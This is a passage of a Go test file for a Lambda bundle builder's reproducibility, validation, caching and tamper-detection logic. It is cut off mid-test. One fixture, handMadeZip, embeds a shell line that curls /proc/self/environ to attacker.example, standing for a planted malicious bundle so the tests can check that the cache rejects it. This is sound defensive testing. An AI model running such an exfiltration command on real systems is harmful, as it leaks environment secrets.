package bundle

import (
	"archive/zip"
	"bytes"
	"context"
	"crypto/sha256"
	"debug/elf"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"github.com/hashicorp/go-multierror"
)

// moduleFiles is a tiny handler module using only the standard library, so
// the tests build offline. other/ and README are outside the handler's
// dependency graph; lib/ and empty/ are bad Package targets.
var moduleFiles = map[string]string{
	"go.mod": "module example.com/h\n\ngo 1.24\n",
	"cmd/handler/main.go": `package main

import (
	"os"

	"example.com/h/internal/greet"
)

func main() { os.Stdout.WriteString(greet.Hello() + "\n") }
`,
	"internal/greet/greet.go": "package greet\n\nfunc Hello() string { return \"hello\" }\n",
	"other/other.go":          "package other\n\nconst X = 1\n",
	"lib/lib.go":              "package lib\n\nconst Y = 2\n",
	"empty/README.md":         "no Go here\n",
	"README.md":               "tiny module for bundle tests\n",
}

const handlerPkg = "./cmd/handler"

func newModule(tb testing.TB) string {
	tb.Helper()
	root := tb.TempDir()
	for name, content := range moduleFiles {
		writeFile(tb, root, name, content)
	}
	return root
}

func writeFile(tb testing.TB, root, name, content string) {
	tb.Helper()
	p := filepath.Join(root, filepath.FromSlash(name))
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		tb.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
		tb.Fatal(err)
	}
}

// newCountingBuilder returns a builder running the real go command that
// counts how many times it ran go build.
func newCountingBuilder() (*builder, *atomic.Int32) {
	var builds atomic.Int32
	b := &builder{
		findGo: FindGo,
		run: func(ctx context.Context, goBin, dir string, env []string, args ...string) ([]byte, []byte, error) {
			if args[0] == "build" {
				builds.Add(1)
			}
			return RunGo(ctx, goBin, dir, env, args...)
		},
	}
	return b, &builds
}

func mustBuild(tb testing.TB, b *builder, spec Spec) *Bundle {
	tb.Helper()
	got, err := b.build(context.Background(), spec)
	if err != nil {
		tb.Fatalf("build(%+v): %v", spec, err)
	}
	return got
}

func readFile(tb testing.TB, name string) []byte {
	tb.Helper()
	data, err := os.ReadFile(name)
	if err != nil {
		tb.Fatal(err)
	}
	return data
}

func TestBuildIsReproducibleAcrossCheckouts(t *testing.T) {
	t.Parallel()
	// Two roots stand for two machines: fresh caches, different absolute paths.
	rootA, rootB := newModule(t), newModule(t)
	a, err := Build(context.Background(), Spec{Root: rootA, Package: handlerPkg})
	if err != nil {
		t.Fatal(err)
	}
	b, err := Build(context.Background(), Spec{Root: rootB, Package: "cmd/handler", Arch: "arm64"})
	if err != nil {
		t.Fatal(err)
	}

	if !bytes.Equal(readFile(t, a.Path), readFile(t, b.Path)) {
		t.Errorf("zips from identical sources differ: %s vs %s", a.Path, b.Path)
	}
	if a.CodeSHA256 != b.CodeSHA256 {
		t.Errorf("CodeSHA256: got %s and %s; want equal", a.CodeSHA256, b.CodeSHA256)
	}
	if a.SourceHash != b.SourceHash {
		t.Errorf("SourceHash: got %s and %s; want equal", a.SourceHash, b.SourceHash)
	}
	wantRel := ".kumo/bundles/handler-" + a.SourceHash[:16] + ".zip"
	if a.RelPath != wantRel || b.RelPath != wantRel {
		t.Errorf("RelPath: got %q and %q; want %q", a.RelPath, b.RelPath, wantRel)
	}
	if want := filepath.Join(rootA, filepath.FromSlash(wantRel)); a.Path != want {
		t.Errorf("Path: got %q; want %q", a.Path, want)
	}
}

func TestBundleLayout(t *testing.T) {
	t.Parallel()
	tests := []struct {
		arch        string
		wantMachine elf.Machine
	}{
		{arch: "", wantMachine: elf.EM_AARCH64},
		{arch: "x86_64", wantMachine: elf.EM_X86_64},
	}
	for _, tt := range tests {
		t.Run("arch="+tt.arch, func(t *testing.T) {
			t.Parallel()
			got, err := Build(context.Background(), Spec{Root: newModule(t), Package: handlerPkg, Arch: tt.arch})
			if err != nil {
				t.Fatal(err)
			}
			data := readFile(t, got.Path)

			sum := sha256.Sum256(data)
			if want := base64.StdEncoding.EncodeToString(sum[:]); got.CodeSHA256 != want {
				t.Errorf("CodeSHA256: got %s; want base64(sha256(zip)) %s", got.CodeSHA256, want)
			}

			zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
			if err != nil {
				t.Fatal(err)
			}
			if zr.Comment != "" {
				t.Errorf("zip comment: got %q; want none", zr.Comment)
			}
			if len(zr.File) != 1 {
				t.Fatalf("zip entries: got %d; want exactly 1 (bootstrap)", len(zr.File))
			}
			f := zr.File[0]
			if f.Name != "bootstrap" {
				t.Errorf("entry name: got %q; want bootstrap", f.Name)
			}
			if f.Mode() != 0o755 {
				t.Errorf("entry mode: got %v; want -rwxr-xr-x", f.Mode())
			}
			if creator := f.CreatorVersion >> 8; creator != 3 {
				t.Errorf("entry creator: got %d; want 3 (Unix), or Lambda ignores the mode", creator)
			}
			if !f.Modified.Equal(zipTime) {
				t.Errorf("entry mtime: got %v; want %v", f.Modified, zipTime)
			}
			if f.Method != zip.Deflate {
				t.Errorf("entry method: got %d; want deflate (%d)", f.Method, zip.Deflate)
			}
			if f.Comment != "" {
				t.Errorf("entry comment: got %q; want none", f.Comment)
			}

			rc, err := f.Open()
			if err != nil {
				t.Fatal(err)
			}
			bin, err := io.ReadAll(rc)
			rc.Close()
			if err != nil {
				t.Fatal(err)
			}
			ef, err := elf.NewFile(bytes.NewReader(bin))
			if err != nil {
				t.Fatalf("bootstrap is not ELF: %v", err)
			}
			if ef.Class != elf.ELFCLASS64 || ef.Machine != tt.wantMachine || ef.Type != elf.ET_EXEC {
				t.Errorf("bootstrap ELF: got %v %v %v; want ELFCLASS64 %v ET_EXEC", ef.Class, ef.Machine, ef.Type, tt.wantMachine)
			}
		})
	}
}

func TestBuildCacheHit(t *testing.T) {
	t.Parallel()
	b, builds := newCountingBuilder()
	spec := Spec{Root: newModule(t), Package: handlerPkg}

	first := mustBuild(t, b, spec)
	before, err := os.Stat(first.Path)
	if err != nil {
		t.Fatal(err)
	}
	second := mustBuild(t, b, spec)
	if *second != *first {
		t.Errorf("second build: got %+v; want %+v", second, first)
	}
	if n := builds.Load(); n != 1 {
		t.Errorf("go build ran %d times for unchanged sources; want 1", n)
	}
	after, err := os.Stat(second.Path)
	if err != nil {
		t.Fatal(err)
	}
	if !os.SameFile(before, after) || !before.ModTime().Equal(after.ModTime()) {
		t.Errorf("cached zip was rewritten on a cache hit")
	}

	// A torn or foreign file at the cache path is rebuilt, and the rebuild
	// reproduces the original bytes.
	for _, junk := range []string{"", "not a zip", string(readFile(t, first.Path)[:100])} {
		if err := os.WriteFile(first.Path, []byte(junk), 0o644); err != nil {
			t.Fatal(err)
		}
		n := builds.Load()
		got := mustBuild(t, b, spec)
		if builds.Load() != n+1 {
			t.Errorf("corrupt cache file (%d bytes) was not rebuilt", len(junk))
		}
		if *got != *first {
			t.Errorf("rebuild over corrupt cache: got %+v; want %+v", got, first)
		}
	}
}

func TestSourceChanges(t *testing.T) {
	t.Parallel()
	b, builds := newCountingBuilder()
	root := newModule(t)
	spec := Spec{Root: root, Package: handlerPkg}
	orig := mustBuild(t, b, spec)

	// Files outside the handler's dependency graph do not affect the build.
	writeFile(t, root, "other/other.go", "package other\n\nconst X = 42\n")
	writeFile(t, root, "README.md", "changed\n")
	if got := mustBuild(t, b, spec); *got != *orig {
		t.Errorf("after editing unrelated files: got %+v; want unchanged %+v", got, orig)
	}

	// A dependency inside the main module does.
	writeFile(t, root, "internal/greet/greet.go", "package greet\n\nfunc Hello() string { return \"hi\" }\n")
	changed := mustBuild(t, b, spec)
	if changed.SourceHash == orig.SourceHash {
		t.Errorf("SourceHash unchanged after editing a dependency: %s", changed.SourceHash)
	}
	if changed.CodeSHA256 == orig.CodeSHA256 {
		t.Errorf("CodeSHA256 unchanged after editing a dependency: %s", changed.CodeSHA256)
	}
	if changed.Path == orig.Path {
		t.Errorf("Path unchanged after editing a dependency: %s", changed.Path)
	}
	if n := builds.Load(); n != 2 {
		t.Errorf("go build ran %d times; want 2 (original, then edited dependency)", n)
	}

	// The build's own settings are part of the key.
	amd := mustBuild(t, b, Spec{Root: root, Package: handlerPkg, Arch: "x86_64"})
	if amd.SourceHash == changed.SourceHash {
		t.Errorf("SourceHash is the same for arm64 and x86_64: %s", amd.SourceHash)
	}
}

func TestBuildFailureReportsCompilerOutput(t *testing.T) {
	t.Parallel()
	root := newModule(t)
	writeFile(t, root, "cmd/broken/main.go", "package main\n\nfunc main() { undefinedThing() }\n")
	_, err := Build(context.Background(), Spec{Root: root, Package: "./cmd/broken"})
	if err == nil {
		t.Fatal("Build of a package that does not compile: got nil error")
	}
	for _, want := range []string{"bundle: go build ./cmd/broken failed: ", "undefined: undefinedThing"} {
		if !strings.Contains(err.Error(), want) {
			t.Errorf("error %q does not contain %q", err, want)
		}
	}
}

func TestBadSpecs(t *testing.T) {
	t.Parallel()
	root := newModule(t)
	noMod := t.TempDir()
	file := filepath.Join(noMod, "file")
	writeFile(t, noMod, "file", "x")
	missing := filepath.Join(noMod, "missing")

	tests := []struct {
		name string
		spec Spec
		want []string // one substring per expected problem
	}{
		{
			name: "empty",
			spec: Spec{},
			want: []string{"bundle: root is required", "bundle: package is required"},
		},
		{
			name: "everything wrong",
			spec: Spec{Root: missing, Package: "/abs/items", Arch: "arm32"},
			want: []string{
				`bundle: arch "arm32" is not supported; use "arm64" (the default) or "x86_64"`,
				`bundle: root "` + missing + `" does not exist`,
				`bundle: package "/abs/items" is absolute`,
			},
		},
		{
			name: "root without go.mod",
			spec: Spec{Root: noMod, Package: "./x"},
			want: []string{`root "` + noMod + `" has no go.mod`},
		},
		{
			name: "root is a file",
			spec: Spec{Root: file, Package: "./x"},
			want: []string{`root "` + file + `" is not a directory`},
		},
		{
			name: "missing package and GOARCH spelling",
			spec: Spec{Root: root, Package: "./functions/nope", Arch: "amd64"},
			want: []string{
				`arch "amd64" is not supported`,
				`package "./functions/nope" does not exist`,
			},
		},
		{
			name: "library package",
			spec: Spec{Root: root, Package: "./lib"},
			want: []string{`package "./lib" is package lib, not main`},
		},
		{
			name: "no Go files",
			spec: Spec{Root: root, Package: "./empty"},
			want: []string{`package "./empty" has no Go files for linux/arm64`},
		},
		{
			name: "outside root",
			spec: Spec{Root: root, Package: "./cmd/../../elsewhere"},
			want: []string{`package "./cmd/../../elsewhere" is outside root`},
		},
		{
			name: "pattern",
			spec: Spec{Root: root, Package: "./cmd/..."},
			want: []string{`package "./cmd/..." is a pattern`},
		},
		{
			name: "import path pattern",
			spec: Spec{Root: root, Package: "example.com/h/..."},
			want: []string{`package "example.com/h/..." is a pattern`},
		},
		{
			name: "unclean import path",
			spec: Spec{Root: root, Package: "example.com/h/cmd/../cmd/handler"},
			want: []string{`package "example.com/h/cmd/../cmd/handler" is not a clean import path`},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			b := &builder{
				findGo: FindGo,
				run: func(_ context.Context, _, _ string, _ []string, args ...string) ([]byte, []byte, error) {
					t.Errorf("go %s ran for an invalid spec; validation must come first", args[0])
					return nil, nil, errors.New("unreachable")
				},
			}
			got, err := b.build(context.Background(), tt.spec)
			if got != nil || err == nil {
				t.Fatalf("build(%+v): got %+v, %v; want a validation error", tt.spec, got, err)
			}
			var merr *multierror.Error
			if !errors.As(err, &merr) {
				t.Fatalf("error type: got %T; want *multierror.Error", err)
			}
			if len(merr.Errors) != len(tt.want) {
				t.Errorf("problems: got %d (%v); want %d", len(merr.Errors), merr.Errors, len(tt.want))
			}
			for _, want := range tt.want {
				if !strings.Contains(err.Error(), want) {
					t.Errorf("error %q does not mention %q", err, want)
				}
			}
		})
	}
}

func TestConcurrentBuilds(t *testing.T) {
	t.Parallel()
	b, builds := newCountingBuilder()
	spec := Spec{Root: newModule(t), Package: handlerPkg}

	const n = 8
	results := make([]*Bundle, n)
	errs := make([]error, n)
	var wg sync.WaitGroup
	for i := range n {
		wg.Add(1)
		go func() {
			defer wg.Done()
			results[i], errs[i] = b.build(context.Background(), spec)
		}()
	}
	wg.Wait()

	for i := range n {
		if errs[i] != nil {
			t.Fatalf("build %d: %v", i, errs[i])
		}
		if *results[i] != *results[0] {
			t.Errorf("build %d: got %+v; want %+v", i, results[i], results[0])
		}
	}
	if got, ok := readCached(results[0].Path, results[0].SourceHash); !ok || got != results[0].CodeSHA256 {
		t.Errorf("cached zip after concurrent builds: got %q, readable=%v; want %q", got, ok, results[0].CodeSHA256)
	}
	if got := builds.Load(); got != 1 {
		t.Errorf("go build ran %d times for %d concurrent identical builds; want 1", got, n)
	}
	leftovers, _ := filepath.Glob(filepath.Join(filepath.Dir(results[0].Path), ".tmp-*"))
	if len(leftovers) != 0 {
		t.Errorf("temporary files left in cache: %v", leftovers)
	}
}

// handMadeZip is a well-formed bundle (one executable bootstrap entry) that
// kumo did not build: what a tampered or foreign cache holds.
func handMadeZip(tb testing.TB) []byte {
	tb.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	hdr := &zip.FileHeader{Name: "bootstrap", Method: zip.Deflate, Modified: zipTime}
	hdr.SetMode(0o755)
	w, err := zw.CreateHeader(hdr)
	if err != nil {
		tb.Fatal(err)
	}
	if _, err := io.WriteString(w, "#!/bin/sh\ncurl -d @/proc/self/environ https://attacker.example\n"); err != nil {
		tb.Fatal(err)
	}
	if err := zw.Close(); err != nil {
		tb.Fatal(err)
	}
	return buf.Bytes()
}

// TestCacheDoesNotTrustPlantedZips: a zip kumo has no record of building
// for these sources is rebuilt, and the result is byte-identical to a fresh
// build, whether it replaced a cached bundle or arrived in a cache kumo never
// wrote (a CI cache restore, a hand copy).
func TestCacheDoesNotTrustPlantedZips(t *testing.T) {
	t.Parallel()
	fresh := mustBuild(t, defaultBuilder, Spec{Root: newModule(t), Package: handlerPkg})
	genuine := readFile(t, fresh.Path)
	planted := handMadeZip(t)

	t.Run("tampered after a build", func(t *testing.T) {
		t.Parallel()
		b, builds := newCountingBuilder()
		spec := Spec{Root: newModule(t), Package: handlerPkg}
		first := mustBuild(t, b, spec)
		if err := os.WriteFile(first.Path, planted, 0o644); err != nil {
			t.Fatal(err)
		}
		got := mustBuild(t, b, spec)
		if n := builds.Load(); n != 2 {
			t.Errorf("go build ran %d times; want 2 (the tampered zip rebuilt)", n)
		}
		assertGenuine(t, got, genuine, fresh)
	})
	t.Run("planted in an empty cache", func(t *testing.T) {
		t.Parallel()
		b, builds := newCountingBuilder()
		root := newModule(t)
		writeFile(t, root, fresh.RelPath, string(planted))
		got := mustBuild(t, b, Spec{Root: root, Package: handlerPkg})
		if n := builds.Load(); n != 1 {
			t.Errorf("go build ran %d times; want 1 (the planted zip rebuilt)", n)
		}
		assertGenuine(t, got, genuine, fresh)
	})
	// The record, not the zip's looks, decides: even the genuine bytes are
	// rebuilt when their record is missing or names other sources.
	for name, breakRecord := range map[string]func(t *testing.T, path string){
		"genuine zip without its record": func(t *testing.T, path string) {
			if err := os.Remove(path); err != nil {
				t.Fatal(err)
			}
		},
		"record of other sources": func(t *testing.T, path string) {
			rec := strings.Replace(string(readFile(t, path)), fresh.SourceHash, strings.Repeat("0", 64), 1)
			if err := os.WriteFile(path, []byte(rec), 0o644); err != nil {
				t.Fatal(err)
			}
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			b, builds := newCountingBuilder()
			spec := Spec{Root: newModule(t), Package: handlerPkg}
			first := mustBuild(t, b, spec)
			breakRecord(t, recordPath(first.Path))
			got := mustBuild(t, b, spec)
			if n := builds.Load(); n != 2 {
				t.Errorf("go build ran %d times; want 2 (rebuilt for want of a valid record)", n)
			}
			assertGenuine(t, got, genuine, fresh)
			if again := mustBuild(t, b, spec); builds.Load() != 2 || *again != *got {
				t.Errorf("after the rebuild: %d builds, %+v; want a cache hit", builds.Load(), again)
			}
		})
	}
}

func TestCacheRecord(t *testing.T) {
	t.Parallel()
	got := mustBuild(t, defaultBuilder, Spec{Root: newModule(t), Package: handlerPkg})
	// No identity yet: the zip is not synced, so only a run that hashes it
	// records one.
	want := fmt.Sprintf("{\n  \"format\": %q,\n  \"sourceHash\": %q,\n  \"codeSha256\": %q,\n  \"size\": %d\n}\n",
		cacheFormat, got.SourceHash, got.CodeSHA256, len(readFile(t, got.Path)))
	recPath := strings.TrimSuffix(got.Path, ".zip") + ".json"
	if rec := string(readFile(t, recPath)); rec != want {
		t.Errorf("record %s = %s; want %s", recPath, rec, want)
	}
}

func assertGenuine(t *testing.T, got *Bundle, genuine []byte, fresh *Bundle) {
	t.Helper()
	if !bytes.Equal(readFile(t, got.Path), genuine) {
		t.Errorf("zip at %s is not the genuine build", got.Path)
	}
	if got.CodeSHA256 != fresh.CodeSHA256 || got.SourceHash != fresh.SourceHash || got.RelPath != fresh.RelPath {
		t.Errorf("bundle = %+v; want the fresh build's hashes and path %+v", got, fresh)
	}
}

func TestIsImportPath(t *testing.T) {
	tests := []struct {
		pkg  string
		want bool
	}{
		{"github.com/kumo-iac/kumo/patterns/webapp/functions/items", true},
		{"example.com/h/cmd/handler", true},
		{"./functions/items", false},
		{"functions/items", false}, // a directory, as before import paths
		{"./dir.v2/cmd", false},
		{".", false},
		{"../x", false},
	}
	for _, tt := range tests {
		if got := isImportPath(tt.pkg); got != tt.want {
			t.Errorf("isImportPath(%q) = %v; want %v", tt.pkg, got, tt.want)
		}
	}
}

// TestImportPathOfMainModule: naming a package of root's own module by
// import path builds the very zip its directory does (same bytes, key and
// cache entry), so switching kumo's own patterns to import paths changes
// nothing in kumo's repository.
func TestImportPathOfMainModule(t *testing.T) {
	t.Parallel()
	b, builds := newCountingBuilder()
	root := newModule(t)
	byDir := mustBuild(t, b, Spec{Root: root, Package: handlerPkg})
	byPath := mustBuild(t, b, Spec{Root: root, Package: "example.com/h/cmd/handler"})
	if *byPath != *byDir {
		t.Errorf("by import path: got %+v; want the directory's %+v", byPath, byDir)
	}
	if n := builds.Load(); n != 1 {
		t.Errorf("go build ran %d times; want 1 (the second is a cache hit)", n)
	}
}

// newUserModule returns a module requiring example.com/h (newModule's) from
// a replace directory, the way a user's module requires kumo from a local
// checkout.
func newUserModule(t *testing.T, lib string) string {
	t.Helper()
	root := t.TempDir()
	writeFile(t, root, "go.mod", "module example.com/user\n\ngo 1.24\n\nrequire example.com/h v0.0.0\n\nreplace example.com/h => "+lib+"\n")
	return root
}

// TestImportPathFromRequiredModule: a handler in a module the root requires
// is built from the root's module, into the root's cache; its sources in a
// replace directory (editable) are hashed, so an edit there rebuilds.
func TestImportPathFromRequiredModule(t *testing.T) {
	t.Parallel()
	b, builds := newCountingBuilder()
	lib := newModule(t)
	user := newUserModule(t, lib)
	spec := Spec{Root: user, Package: "example.com/h/cmd/handler"}
	if err := spec.Validate(); err != nil {
		t.Fatalf("Validate: %v", err)
	}
	first := mustBuild(t, b, spec)
	if want := filepath.Join(user, ".kumo", "bundles", "handler-"+first.SourceHash[:16]+".zip"); first.Path != want {
		t.Errorf("Path: got %q; want %q, in the building module's cache", first.Path, want)
	}
	if again := mustBuild(t, b, spec); *again != *first {
		t.Errorf("unchanged rebuild: got %+v; want the cached %+v", again, first)
	}
	writeFile(t, lib, "internal/greet/greet.go", "package greet\n\nfunc Hello() string { return \"hi\" }\n")
	edited := mustBuild(t, b, spec)
	if edited.SourceHash == first.SourceHash || edited.CodeSHA256 == first.CodeSHA256 {
		t.Errorf("after editing the replace directory: got the same source hash or code; want a rebuild")
	}
	if n := builds.Load(); n != 2 {
		t.Errorf("go build ran %d times; want 2 (first, after the edit)", n)
	}
}

func TestImportPathErrors(t *testing.T) {
	t.Parallel()
	user := newUserModule(t, newModule(t))
	tests := []struct {
		name, pkg string
		want      []string
	}{
		{"library", "example.com/h/lib", []string{`package "example.com/h/lib" is package lib, not main`}},
		{"missing in a required module", "example.com/h/nope", []string{"bundle: go list example.com/h/nope failed: ", "example.com/h/nope"}},
		{"no module provides it", "example.org/other/cmd", []string{"bundle: go list example.org/other/cmd failed: ", "no required module provides package example.org/other/cmd"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			_, err := Build(context.Background(), Spec{Root: user, Package: tt.pkg})
			if err == nil {
				t.Fatalf("Build(%q): got nil error", tt.pkg)
			}
			for _, want := range tt.want {
				if !strings.Contains(err.Error(), want) {
					t.Errorf("error %q does not contain %q", err, want)
				}
			}
		})
	}
}

func TestModuleDir(t *testing.T) {
	t.Parallel()
	lib := newModule(t)
	user := newUserModule(t, lib)
	b := &builder{findGo: FindGo, run: RunGo}
	tests := []struct {
		name, root, module, want string
	}{
		{"the main module is root", lib, "example.com/h", lib},
		{"a required module from a replace directory", user, "example.com/h", lib},
	}
	for _, tt := range tests {
		got, err := b.moduleDir(context.Background(), tt.root, tt.module)
		if err != nil || got != tt.want {
			t.Errorf("%s: got %q, %v; want %q", tt.name, got, err, tt.want)
		}
	}
	if _, err := b.moduleDir(context.Background(), user, "example.org/absent"); err == nil || !strings.Contains(err.Error(), "go list -m example.org/absent failed") {
		t.Errorf("a module root does not require: got %v; want go list's failure", err)
	}
}

// TestModuleDirIsKeptBetweenRuns: a new process (a fresh builder) asks the
// go command nothing for a module's directory while go.mod, go.sum, the
// workspace (go.work and the go.mod of each directory it uses),
// vendor/modules.txt, the go env -w settings file and the directory are
// unchanged, and asks again after any of them changes.
func TestModuleDirIsKeptBetweenRuns(t *testing.T) {
	lib, other := newModule(t), newModule(t)
	user := newUserModule(t, lib)
	ask := func(step, want string, asks int) {
		t.Helper()
		var calls []string
		got, err := countingRunner(&calls).moduleDir(context.Background(), user, "example.com/h")
		if err != nil || got != want || len(calls) != asks {
			t.Errorf("%s: %q, %v after go commands %v; want %q after %d", step, got, err, calls, want, asks)
		}
	}
	ask("first run", lib, 1)
	ask("unchanged, in a new process", lib, 0)
	writeFile(t, user, "go.mod", "module example.com/user\n\ngo 1.24\n\nrequire example.com/h v0.0.0\n\nreplace example.com/h => "+other+"\n")
	ask("after go.mod names another replacement", other, 1)
	ask("unchanged again", other, 0)
	writeFile(t, user, "go.sum", "")
	ask("after go.sum appears", other, 1)
	writeFile(t, user, "go.work", "go 1.24\n\nuse .\n")
	ask("after a go.work appears", other, 1)
	writeFile(t, user, "go.work", "go 1.24\n\nuse .\n\nreplace example.com/h => "+lib+"\n")
	ask("after go.work replaces the module", lib, 1)
	writeFile(t, user, "go.work", "go 1.24\n\nuse (\n\t.\n\t./sub\n)\n\nreplace example.com/h => "+lib+"\n")
	writeFile(t, user, "sub/go.mod", "module example.com/sub\n\ngo 1.24\n")
	ask("after go.work uses another directory", lib, 1)
	ask("unchanged workspace", lib, 0)
	writeFile(t, user, "sub/go.mod", "module example.com/sub\n\ngo 1.24\n\nreplace example.com/h => "+other+"\n")
	ask("after a used directory's go.mod changes", lib, 1)
	os.Remove(filepath.Join(user, "go.work"))
	ask("after the workspace is gone", other, 1)
	asks := func(step string) {
		t.Helper()
		var calls []string
		countingRunner(&calls).moduleDir(context.Background(), user, "example.com/h")
		if len(calls) != 1 {
			t.Errorf("%s: go commands %v; want go list asked again", step, calls)
		}
	}
	writeFile(t, user, "vendor/modules.txt", "# example.com/h v0.0.0 => "+other+"\n")
	asks("after vendor/modules.txt appears")
	os.RemoveAll(filepath.Join(user, "vendor"))
	// go list -m refused the hand-made vendor/, so the answer kept before
	// holds again.
	ask("after vendor/ is gone", other, 0)
	if err := os.RemoveAll(other); err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(other, 0o755); err != nil {
		t.Fatal(err)
	}
	// other is an empty directory now: go list -m still names it.
	ask("directory recreated, kept answer still names it", other, 0)
	os.Remove(other)
	asks("after the directory is gone")
	kept, _ := filepath.Glob(filepath.Join(user, ".kumo", "modules", "h-*"+keptModuleSuffix))
	if len(kept) != 1 {
		t.Errorf("kept answers %v; want the one environment's", kept)
	}

	// An alternate go.mod that GOFLAGS names (a new environment).
	writeFile(t, user, "alt.mod", "module example.com/user\n\ngo 1.24\n\nrequire example.com/h v0.0.0\n\nreplace example.com/h => "+lib+"\n")
	t.Setenv("GOFLAGS", "-modfile=alt.mod")
	ask("with -modfile", lib, 1)
	ask("unchanged -modfile", lib, 0)
	writeFile(t, user, "alt.mod", "module example.com/user\n\ngo 1.24\n\nrequire example.com/h v0.0.0\n\nreplace example.com/h => "+other+"\n")
	if err := os.MkdirAll(other, 0o755); err != nil {
		t.Fatal(err)
	}
	ask("after the -modfile file names another replacement", other, 1)
	t.Setenv("GOFLAGS", "")

	// The go env -w settings file (here named by GOENV, a new environment).
	writeFile(t, user, "go.mod", "module example.com/user\n\ngo 1.24\n\nrequire example.com/h v0.0.0\n\nreplace example.com/h => "+lib+"\n")
	goenv := filepath.Join(t.TempDir(), "env")
	writeFile(t, filepath.Dir(goenv), "env", "")
	t.Setenv("GOENV", goenv)
	ask("with a settings file", lib, 1)
	ask("unchanged settings", lib, 0)
	writeFile(t, filepath.Dir(goenv), "env", "GOFLAGS=-mod=mod\n")
	ask("after go env -w wrote the settings file", lib, 1)
}

// TestModuleDirPerEnvironment: runs under several environments (a
// terminal, an editor, a test with a wrapper on PATH) each keep their
// answer, so alternating between them asks the go command nothing; a stream
// of one-off environments keeps the newest keptDecisions.
func TestModuleDirPerEnvironment(t *testing.T) {
	lib := newModule(t)
	user := newUserModule(t, lib)
	asks := func(env string) int {
		t.Setenv("KUMO_TEST_ENVIRONMENT", env)
		var calls []string
		if _, err := countingRunner(&calls).moduleDir(context.Background(), user, "example.com/h"); err != nil {
			t.Fatal(err)
		}
		return len(calls)
	}
	for _, env := range []string{"terminal", "editor", "wrapper"} {
		asks(env)
	}
	for _, env := range []string{"terminal", "editor", "wrapper"} {
		if n := asks(env); n != 0 {
			t.Errorf("%s again: %d go commands; want its kept answer", env, n)
		}
	}
	for i := range 2 * keptDecisions {
		asks(fmt.Sprint("one-off ", i))
	}
	kept, _ := filepath.Glob(filepath.Join(user, ".kumo", "modules", "h-*"+keptModuleSuffix))
	if len(kept) != keptDecisions {
		t.Errorf("after %d one-off environments: %d kept answers; want the newest %d", 2*keptDecisions, len(kept), keptDecisions)
	}
}

// TestCacheHitAfterRewriteIsChecked: a zip this process already verified,
// then overwritten in place with other bytes of the same size, is checked
// again and rebuilt, not trusted from memory.
func TestCacheHitAfterRewriteIsChecked(t *testing.T) {
	root := newModule(t)
	b, builds := newCountingBuilder()
	spec := Spec{Root: root, Package: handlerPkg}
	first := mustBuild(t, b, spec)
	genuine := readFile(t, first.Path)
	mustBuild(t, b, spec) // verified and remembered
	forged := make([]byte, len(genuine))
	copy(forged, genuine)
	forged[len(forged)/2] ^= 0xff
	if err := os.WriteFile(first.Path, forged, 0o644); err != nil {
		t.Fatal(err)
	}
	again := mustBuild(t, b, spec)
	if got := readFile(t, again.Path); !bytes.Equal(got, genuine) || builds.Load() != 2 {
		t.Errorf("after an in-place rewrite: %d builds, genuine bytes %v; want a rebuild to the genuine zip", builds.Load(), bytes.Equal(got, genuine))
	}
}

// A zip rewritten in place with its modification time set back is still
// caught: its status-change time moved, which no tool can set back. And a
// zip verified once is remembered across processes by its identity.
func TestCacheIdentity(t *testing.T) {
	if fileIdentity(mustStat(t, os.Args[0])) == "" {
		t.Skip("this platform reports no file identity; every process hashes each zip")
	}
	root := newModule(t)
	b, builds := newCountingBuilder()
	spec := Spec{Root: root, Package: handlerPkg}
	first := mustBuild(t, b, spec)
	genuine := readFile(t, first.Path)
	// The next process hashes it once: the record then holds the file's
	// identity. (The process that built it trusts it from memory.)
	verifiedZips.Delete(first.Path)
	mustBuild(t, b, spec)
	var rec record
	if err := json.Unmarshal(readFile(t, recordPath(first.Path)), &rec); err != nil || rec.Verified == "" || rec.Verified != fileIdentity(mustStat(t, first.Path)) {
		t.Fatalf("record after verification: %+v, %v; want the zip's identity in verified", rec, err)
	}
	// Another process trusts the identity without hashing; forget this
	// process's memory to be that process.
	verifiedZips.Delete(first.Path)
	if code, ok := readCached(first.Path, first.SourceHash); !ok || code != first.CodeSHA256 {
		t.Fatalf("readCached of the verified zip: %q, %v; want a hit", code, ok)
	}
	before := mustStat(t, first.Path)
	forged := append([]byte(nil), genuine...)
	forged[len(forged)/2] ^= 0xff
	if err := os.WriteFile(first.Path, forged, 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Chtimes(first.Path, before.ModTime(), before.ModTime()); err != nil {
		t.Fatal(err)
	}
	verifiedZips.Delete(first.Path)
	again := mustBuild(t, b, spec)
	if got := readFile(t, again.Path); !bytes.Equal(got, genuine) || builds.Load() != 2 {
		t.Errorf("after an in-place rewrite with the modification time set back: %d builds, genuine bytes %v; want a rebuild", builds.Load(), bytes.Equal(got, genuine))
	}
}

func mustStat(t *testing.T, path string) os.FileInfo {
	t.Helper()
	info, err := os.Stat(path)
	if err != nil {
		t.Fatal(err)
	}
	return info
}

// TestVerifiedSHA256: a zip this process built, or found matching its
// record, is vouched for by its hex SHA-256 while it is the same file; a zip
// rewritten in place (its modification time set back) or unknown to the
// process is not, so the synth reads it.
func TestVerifiedSHA256(t *testing.T) {
	root := newModule(t)
	b, _ := newCountingBuilder()
	built := mustBuild(t, b, Spec{Root: root, Package: handlerPkg})
	want := fmt.Sprintf("%x", sha256.Sum256(readFile(t, built.Path)))
	if got, ok := VerifiedSHA256(built.Path, mustStat(t, built.Path)); !ok || got != want {
		t.Errorf("VerifiedSHA256 of the zip just built: %q, %v; want %s", got, ok, want)
	}

	// Another process: known once readCached has checked it.
	verifiedZips.Delete(built.Path)
	if _, ok := VerifiedSHA256(built.Path, mustStat(t, built.Path)); ok {
		t.Error("VerifiedSHA256 of a zip this process never checked: ok; want false")
	}
	if again := mustBuild(t, b, Spec{Root: root, Package: handlerPkg}); again.Path != built.Path {
